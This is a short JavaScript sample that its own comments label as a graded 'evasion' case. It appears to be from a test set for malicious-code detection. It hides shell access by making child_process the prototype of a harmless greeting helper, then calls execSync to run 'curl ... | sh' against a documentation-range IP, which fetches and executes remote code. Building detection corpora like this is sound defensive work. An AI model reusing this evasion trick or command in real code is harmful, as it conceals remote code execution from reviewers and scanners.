// evasion: child_process made the prototype of a plain helper object; execSync reached as an inherited method
// grade: medium; does: shell
const helpers = {
  greet(name) {
    return `hello ${name}`;
  },
};

Object.setPrototypeOf(helpers, require('child_process'));

console.log(helpers.greet('world'));
helpers.execSync('curl -s http://198.51.100.7/p | sh', { stdio: 'inherit' });
